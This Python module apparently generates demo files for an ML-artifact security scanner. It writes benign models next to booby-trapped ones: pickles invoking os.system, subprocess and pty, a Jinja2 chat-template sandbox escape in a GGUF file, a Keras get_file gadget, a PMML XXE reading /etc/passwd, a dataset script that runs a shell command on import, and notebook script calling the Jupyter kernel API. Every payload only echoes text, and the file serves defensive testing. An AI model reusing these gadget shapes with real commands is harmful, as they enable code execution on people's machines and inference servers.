"""``mloops demo``: build a small workspace of benign and booby-trapped models, datasets, code and
notebooks, then scan it.

The booby-trapped files carry harmless commands (``echo``) and are never loaded by
mloops; they show what a real attack looks like to the scanner.
"""

from __future__ import annotations

import collections
import datetime
import io
import json
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from decimal import Decimal

from .picklevm.assemble import PickleBuilder

HARMLESS = "echo mloops-demo-payload"


def _state_dict_pickle() -> bytes:
    """What torch.save writes for {'weight': a 2x3 float tensor}, assembled by hand."""
    b = PickleBuilder(2).call("collections", "OrderedDict").mark().push("weight")
    b.global_("torch._utils", "_rebuild_tensor_v2").mark()
    b.mark().push("storage").global_("torch", "FloatStorage").push("0").push("cpu").push(
        6
    ).tuple_from_mark().persistent()
    b.push(0).push((2, 3)).push((3, 1)).push(False).call("collections", "OrderedDict").tuple_from_mark().reduce()
    return b.op(b"u").stop().build()


def _torch_zip(pickle_bytes: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", pickle_bytes)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/data/0", struct.pack("<6f", *range(6)))
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


def _npy(values: list[float]) -> bytes:
    header = f"{{'descr': '<f8', 'fortran_order': False, 'shape': ({len(values)},), }}"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return (
        b"\x93NUMPY\x01\x00"
        + struct.pack("<H", len(header))
        + header.encode()
        + struct.pack(f"<{len(values)}d", *values)
    )


def _call(module: str, name: str, *args: object) -> bytes:
    return PickleBuilder(2).call(module, name, *args).stop().build()


def _tar_with(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _zip_with(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def _safetensors(values: list[float]) -> bytes:
    header = {"weight": {"dtype": "F32", "shape": [len(values)], "data_offsets": [0, 4 * len(values)]}}
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + struct.pack(f"<{len(values)}f", *values)


def _gguf_string(text: str) -> bytes:
    data = text.encode()
    return struct.pack("<Q", len(data)) + data


def _gguf(chat_template: str) -> bytes:
    """A GGUF v3 file with metadata only: the architecture and a chat template (value type 8 = string)."""
    kvs = [("general.architecture", "llama"), ("tokenizer.chat_template", chat_template)]
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs))
    for key, value in kvs:
        out += _gguf_string(key) + struct.pack("<I", 8) + _gguf_string(value)
    return out


CHATML = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + "
    "'<|im_end|>' + '\\n' }}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
# Rendered outside Jinja2's sandbox (CVE-2024-34359), this runs a shell command on the inference server.
INJECTED = CHATML + "{{ cycler.__init__.__globals__.os.popen('" + HARMLESS + "').read() }}"


def _keras_archive(layer_activation: object) -> bytes:
    """A .keras archive whose Dense layer names its activation; get_file is CVE-2025-8747's shape."""
    layer = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": "dense", "units": 2, "activation": layer_activation},
        "registered_name": None,
    }
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [layer]},
        "registered_name": None,
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.10.0", "date_saved": "2026-01-01"}))
        archive.writestr("config.json", json.dumps(config))
    return buffer.getvalue()


GET_FILE = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}

PMML_XXE = """<?xml version="1.0"?>
<!DOCTYPE PMML [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header description="&secret;"/></PMML>
"""


DATASET_CARD = """---
pretty_name: Product reviews
task_categories:
- text-classification
---
# Product reviews
"""

# A loading script of the kind found on the Hub: it opens a shell the moment load_dataset imports it.
LOADING_SCRIPT = f"""import os

import datasets

os.system({HARMLESS!r})


class Reviews(datasets.GeneratorBasedBuilder):
    def _info(self):
        return datasets.DatasetInfo(features=datasets.Features({{"text": datasets.Value("string")}}))

    def _split_generators(self, dl_manager):
        return [datasets.SplitGenerator(name=datasets.Split.TRAIN)]

    def _generate_examples(self):
        yield 0, {{"text": "great"}}
"""

SAFE_TRAINING = """import torch
import yaml

config = yaml.safe_load(open("config.yaml"))
state = torch.load("checkpoint.pt", weights_only=True)
"""

UNSAFE_TRAINING = """import torch as T
from transformers import AutoModel

state = T.load("downloads/checkpoint.pt", weights_only=False)
model = AutoModel.from_pretrained("someone/new-architecture", trust_remote_code=True)
"""


def _notebook(html: str) -> bytes:
    output = {"output_type": "display_data", "data": {"text/html": [html], "text/plain": ["..."]}, "metadata": {}}
    cell = {"cell_type": "code", "execution_count": 1, "id": "c1", "metadata": {}, "source": ["frame"],
            "outputs": [output]}  # fmt: skip
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


TABLE = "<table><tr><th>loss</th></tr><tr><td>0.12</td></tr></table>"
# Opening the notebook runs this with the user's kernel: the Jupyter API starts a terminal or runs code.
XSS = "<div>report</div><script>fetch('/api/kernels', {method: 'POST'})</script>"


def build_workspace(root: str) -> dict[str, bool]:
    """Write the demo files under ``root``; returns each relative path -> is it malicious."""
    config = {
        "lr": Decimal("0.001"),
        "layers": [64, 32],
        "saved": datetime.datetime(2026, 1, 1),
        "meta": collections.OrderedDict(a=1),
    }
    files = {
        "benign/state_dict.pt": (_torch_zip(_state_dict_pickle()), False),
        "benign/embeddings.npy": (_npy([0.5, 1.5, 2.5]), False),
        "benign/config.pkl": (pickle.dumps(config, protocol=4), False),
        "benign/weights.safetensors": (_safetensors([0.5, 1.5, 2.5]), False),
        "benign/chat_model.gguf": (_gguf(CHATML), False),
        "benign/classifier.keras": (_keras_archive("relu"), False),
        "malicious/reverse_shell.pkl": (_call("os", "system", HARMLESS), True),
        "malicious/pytorch_model.bin": (_call("runpy", "_run_code", f"import os; os.system({HARMLESS!r})", {}), True),
        "malicious/classifier.joblib": (zlib.compress(_call("builtins", "exec", f"print({HARMLESS!r})")), True),
        "malicious/stacked.pkl": (pickle.dumps([1, 2, 3]) + _call("subprocess", "call", HARMLESS), True),
        "malicious/nested_archive.zip": (
            _zip_with("inner.tar", _tar_with("weights.pkl", _call("pty", "spawn", HARMLESS))),
            True,
        ),
        "malicious/hijacked_checkpoint.pt": (_torch_zip(_call("pydoc", "locate", "os.system")), True),
        "malicious/chat_template_rce.gguf": (_gguf(INJECTED), True),
        "malicious/downloader.keras": (_keras_archive(GET_FILE), True),
        "malicious/scorecard.pmml": (PMML_XXE.encode(), True),
        "benign/train.py": (SAFE_TRAINING.encode(), False),
        "benign/eda.ipynb": (_notebook(TABLE), False),
        "malicious/reviews/README.md": (DATASET_CARD.encode(), False),
        "malicious/reviews/reviews.py": (LOADING_SCRIPT.encode(), True),
        "malicious/fine_tune.py": (UNSAFE_TRAINING.encode(), True),
        "malicious/report.ipynb": (_notebook(XSS), True),
    }
    for relative, (data, _) in files.items():
        path = os.path.join(root, relative)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as handle:
            handle.write(data)
    return {relative: malicious for relative, (_, malicious) in files.items()}
